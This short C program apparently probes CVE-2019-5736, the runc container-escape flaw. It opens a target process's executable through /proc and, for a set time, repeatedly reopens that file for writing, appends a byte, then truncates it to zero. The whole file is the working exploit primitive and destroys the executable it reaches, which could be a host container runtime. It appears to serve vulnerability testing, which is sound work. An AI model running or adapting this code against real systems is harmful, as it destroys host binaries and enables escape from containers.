/*
 * overwrite PID SECONDS: opens the program that process PID executes, and tries for that long to write to it, even after the process has
 * executed another program (CVE-2019-5736). Prints which file it is, how often it could write, and the last error.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 3) return 64;
  char exe[64], link[64], name[4096] = "";
  snprintf(exe, sizeof exe, "/proc/%s/exe", argv[1]);
  int fd = open(exe, O_RDONLY);
  if (fd < 0) {
    perror(exe);
    return 1;
  }
  if (readlink(exe, name, sizeof name - 1) < 0) return 1;
  printf("opened %s\n", name);
  fflush(stdout);
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  int tries = 0, written = 0, error = 0;
  for (time_t end = time(NULL) + atoi(argv[2]); time(NULL) < end; tries++) {
    int writable = open(link, O_WRONLY | O_APPEND);
    if (writable < 0) {
      error = errno;
      continue;
    }
    if (write(writable, "#", 1) == 1)
      written++;
    else
      error = errno;
    if (ftruncate(writable, 0) == 0) written++;
    close(writable);
  }
  printf("tried %s written %d last %s\n", tries > 0 ? "often" : "never", written, strerror(error));
  return 0;
}
